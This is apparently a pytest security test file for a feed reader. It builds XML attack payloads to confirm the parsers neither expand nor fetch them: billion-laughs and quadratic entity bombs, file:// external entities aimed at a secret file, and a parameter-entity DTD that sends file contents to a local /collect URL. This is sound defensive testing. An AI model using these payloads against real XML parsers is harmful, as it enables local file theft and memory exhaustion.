"""XML attacks: entity expansion bombs, external entities, DTD fetches.

Each document goes through everything that parses what a server sends: the feed parser
(directly and through a refresh from a loopback server), subscription (feed sniffing and
discovery), the HTML cleaner and the OPML reader. Nothing may be fetched, no local file
may leak into an article, and memory stays bounded.
"""

from __future__ import annotations

import resource
import tracemalloc
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import astuple
from pathlib import Path

import pytest
from hostile_support import HostileServer

from briefing.ingest.discover import feed_links, looks_like_feed
from briefing.ingest.html import html_to_text
from briefing.ingest.opml import Subscription, SubscriptionFileError, read_subscriptions
from briefing.ingest.parse import NotAFeed, parse_feed
from briefing.ingest.refresh import refresh_feeds
from briefing.ingest.subscribe import SubscribeError, subscribe
from briefing.ingest.xmlguard import strip_internal_subset
from briefing.store import open_library
from briefing.store.articles import list_articles

# Far below what an expanded bomb needs (gigabytes), far above what a feed needs.
MEMORY_BUDGET = 64 * 1024 * 1024
SECRET = "TOP-SECRET-4f1d2c"

FAST = {"connect_timeout": 2.0, "read_timeout": 2.0, "deadline": 5.0}


def billion_laughs(root: str = "rss") -> bytes:
    lines = ['<!ENTITY lol0 "lollollollollollollollollollol">']
    lines += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return _feed_with_entities(root, "\n".join(lines), "&lol9;")


def quadratic_blowup(root: str = "rss") -> bytes:
    # One 50 KB entity referenced 10,000 times: 500 MB once expanded, 100 KB as sent.
    decl = f'<!ENTITY big "{"B" * 50_000}">'
    return _feed_with_entities(root, decl, "&big;" * 10_000)


def external_entity(path: Path, root: str = "rss") -> bytes:
    decl = f'<!ENTITY xxe SYSTEM "file://{path}">'
    return _feed_with_entities(root, decl, "&xxe;")


def parameter_entity(url: str, path: Path) -> bytes:
    decl = f'<!ENTITY % file SYSTEM "file://{path}">\n<!ENTITY % remote SYSTEM "{url}">\n%remote;'
    return _feed_with_entities("rss", decl, "&exfil;")


def external_dtd(url: str) -> bytes:
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE rss SYSTEM "{url}">\n'
        '<rss version="2.0"><channel><title>Feed</title>'
        "<item><title>One &dtdentity; item</title><guid>1</guid>"
        "<description>Text of the item.</description></item></channel></rss>"
    ).encode()


def _feed_with_entities(root: str, declarations: str, reference: str) -> bytes:
    if root == "feed":
        doc = (
            f'<feed xmlns="http://www.w3.org/2005/Atom"><title>Feed {reference}</title>'
            f"<entry><id>urn:1</id><title>Entry {reference}</title>"
            f'<link href="http://example.org/1"/>'
            f'<content type="html">Body {reference} end</content></entry></feed>'
        )
    else:
        doc = (
            f'<rss version="2.0"><channel><title>Feed {reference}</title>'
            f"<item><title>Item {reference}</title><guid>1</guid>"
            f"<link>http://example.org/1</link>"
            f"<description>Body {reference} end</description></item></channel></rss>"
        )
    return f'<?xml version="1.0"?>\n<!DOCTYPE {root} [\n{declarations}\n]>\n{doc}'.encode()


@contextmanager
def bounded_memory() -> Iterator[None]:
    """Python allocations (tracemalloc) and the process's peak RSS stay within budget."""
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
    tracemalloc.start()
    try:
        yield
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    rss_growth = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024 - rss_before
    assert peak < MEMORY_BUDGET, f"Python allocations peaked at {peak / 1e6:.0f} MB"
    assert rss_growth < MEMORY_BUDGET, f"resident memory grew by {rss_growth / 1e6:.0f} MB"


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET + "\n", encoding="utf-8")
    return path


def _all_text(parsed) -> str:  # type: ignore[no-untyped-def]
    parts = [parsed.title, parsed.site_url]
    for article in parsed.articles:
        parts += [str(v) for v in astuple(article)]
    return "\n".join(parts)


def _parse_or_refuse(body: bytes) -> str:
    """The text a parse yields ("" when the document is refused as not a feed)."""
    try:
        return _all_text(parse_feed(body, "http://example.org/feed", "application/rss+xml"))
    except NotAFeed:
        return ""


def _opml_or_refuse(body: bytes) -> list[Subscription]:
    try:
        return read_subscriptions(body)
    except SubscriptionFileError:
        return []  # refused, with a clear message


BOMBS: dict[str, Callable[[], bytes]] = {
    "billion-laughs-rss": lambda: billion_laughs("rss"),
    "billion-laughs-atom": lambda: billion_laughs("feed"),
    "quadratic-rss": lambda: quadratic_blowup("rss"),
    "quadratic-atom": lambda: quadratic_blowup("feed"),
}


@pytest.mark.parametrize("name", list(BOMBS))
def test_entity_bombs_are_not_expanded(name: str) -> None:
    body = BOMBS[name]()
    with bounded_memory():
        text = _parse_or_refuse(body)
        # Every other parser a hostile body can reach.
        looks_like_feed(body, "application/xml")
        feed_links(body.decode(), "http://example.org/")
        html_to_text(body.decode())
        _opml_or_refuse(body)
    # Expanded, the bomb is gigabytes; unexpanded, the text is about the size sent.
    assert len(text) <= 2 * len(body), len(text)
    assert "lollollol" * 20 not in text and "B" * 100_000 not in text


@pytest.mark.parametrize("root", ["rss", "feed"])
def test_external_entity_never_reads_a_local_file(root: str, secret_file: Path) -> None:
    body = external_entity(secret_file, root)
    assert SECRET not in _parse_or_refuse(body)
    assert SECRET not in html_to_text(body.decode())
    found = _opml_or_refuse(
        f'<?xml version="1.0"?><!DOCTYPE opml [<!ENTITY xxe SYSTEM "file://{secret_file}">]>'
        '<opml version="2.0"><body><outline text="&xxe;" title="&xxe;" type="rss" '
        'xmlUrl="http://example.org/&xxe;"/></body></opml>'.encode()
    )
    assert all(SECRET not in f"{s.url} {s.title} {s.tags}" for s in found)


def _dtd_routes(server: HostileServer, secret_file: Path) -> None:
    server.serve(
        "/evil.dtd",
        f'<!ENTITY dtdentity "FROM-THE-DTD"><!ENTITY % all "<!ENTITY exfil SYSTEM '
        f"'http://127.0.0.1:{server.port}/collect?%file;'>\"> %all;",
        content_type="application/xml-dtd",
    )


def test_no_dtd_or_external_entity_is_fetched(
    server: HostileServer, secret_file: Path, tmp_path: Path
) -> None:
    """Through a refresh: documents that point at a DTD or a remote parameter entity."""
    _dtd_routes(server, secret_file)
    dtd = server.url("/evil.dtd")
    feeds = {
        "/external-dtd.xml": external_dtd(dtd),
        "/parameter-entity.xml": parameter_entity(dtd, secret_file),
        "/xxe.xml": external_entity(secret_file, "rss"),
        "/xxe-atom.xml": external_entity(secret_file, "feed"),
    }
    library = open_library(tmp_path / "library.db")
    try:
        from briefing.store.feeds import add_feed

        for path, body in feeds.items():
            add_feed(library, server.serve(path, body))
        report = refresh_feeds(library, full_text=False, fetcher_options=FAST)
        assert report.feeds == len(feeds)
        stored = list_articles(library, limit=100)
        for article in stored:
            blob = f"{article.title} {article.text} {article.link} {article.author}"
            assert SECRET not in blob and "FROM-THE-DTD" not in blob
    finally:
        library.close()
    assert server.count("/evil.dtd") == 0, "the DTD was fetched"
    assert server.count("/collect") == 0, "an external entity was fetched"
    assert sorted(h.path for h in server.hits) == sorted(feeds)


def test_subscribe_to_hostile_document_fetches_nothing_else(
    server: HostileServer, secret_file: Path, tmp_path: Path
) -> None:
    """Subscribing sniffs and parses the body too; it must not follow the DTD either."""
    _dtd_routes(server, secret_file)
    url = server.serve("/sub.xml", external_dtd(server.url("/evil.dtd")))
    library = open_library(tmp_path / "library.db")
    try:
        try:
            found = subscribe(library, url, fetcher_options=FAST)
            assert "FROM-THE-DTD" not in found.feed.title
        except SubscribeError:
            pass  # refusing the document is as good as reading it safely
    finally:
        library.close()
    assert server.count("/evil.dtd") == 0
    assert server.count("/collect") == 0


def test_bomb_served_over_http_is_refused_or_harmless(
    server: HostileServer, tmp_path: Path
) -> None:
    from briefing.store.feeds import add_feed

    library = open_library(tmp_path / "library.db")
    try:
        add_feed(library, server.serve("/laughs.xml", billion_laughs()))
        add_feed(library, server.serve("/quadratic.xml", quadratic_blowup()))
        with bounded_memory():
            report = refresh_feeds(library, full_text=False, fetcher_options=FAST)
        assert report.feeds == 2
        for article in list_articles(library, limit=100):
            assert len(article.text) < 300_000 and len(article.title) < 300_000
    finally:
        library.close()


# -- the guard itself ----------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-be", "utf-32"])
def test_guard_drops_the_subset_in_any_encoding(encoding: str) -> None:
    doc = (
        '<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY a "x]>y">\n<!-- ]> -->\n'
        "<!ENTITY b '&a;&a;'>\n]>\n<rss><channel><title>&b;</title></channel></rss>"
    )
    out = strip_internal_subset(doc.encode(encoding)).decode(encoding)
    assert "ENTITY" not in out
    assert out.endswith("<rss><channel><title>&b;</title></channel></rss>")
    assert "<!DOCTYPE rss" in out


def test_guard_leaves_documents_without_a_subset_alone() -> None:
    plain = b'<?xml version="1.0"?><rss version="2.0"><channel><title>[x]</title></channel></rss>'
    netscape = (
        b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        b'"http://my.netscape.com/publish/formats/rss-0.91.dtd">\n<rss version="0.91"/>'
    )
    assert strip_internal_subset(plain) is plain
    assert strip_internal_subset(netscape) is netscape


def test_guard_an_unterminated_subset_leaves_no_document() -> None:
    doc = b'<!DOCTYPE rss [ <!ENTITY a "never closed" <rss><channel/></rss>'
    assert b"ENTITY" not in strip_internal_subset(doc)


@pytest.mark.parametrize("ref", ["&#xD800;", "&#1114112;", "&#99999999999999999999;"])
def test_impossible_character_references_do_not_break_subscribing(
    server: HostileServer, tmp_path: Path, ref: str
) -> None:
    """A feed that is not well-formed (a bare &) and names a code point that cannot exist."""
    from click.testing import CliRunner

    from briefing.cli import cli

    doc = (
        '<?xml version="1.0"?><rss version="2.0"><channel><title>Odd & Ends</title>'
        f"<item><guid>1</guid><title>Broken {ref} reference</title>"
        "<description>Fish & chips.</description></item></channel></rss>"
    )
    url = server.serve("/odd.xml", doc)
    db = tmp_path / "library.db"
    result = CliRunner().invoke(cli, ["--db", str(db), "add", "--no-full-text", url])
    assert result.exit_code == 0, result.output
    assert result.exception is None, result.exception
    with open_library(db) as library:
        titles = [a.title for a in list_articles(library)]
    assert titles == ["Broken \ufffd reference"]
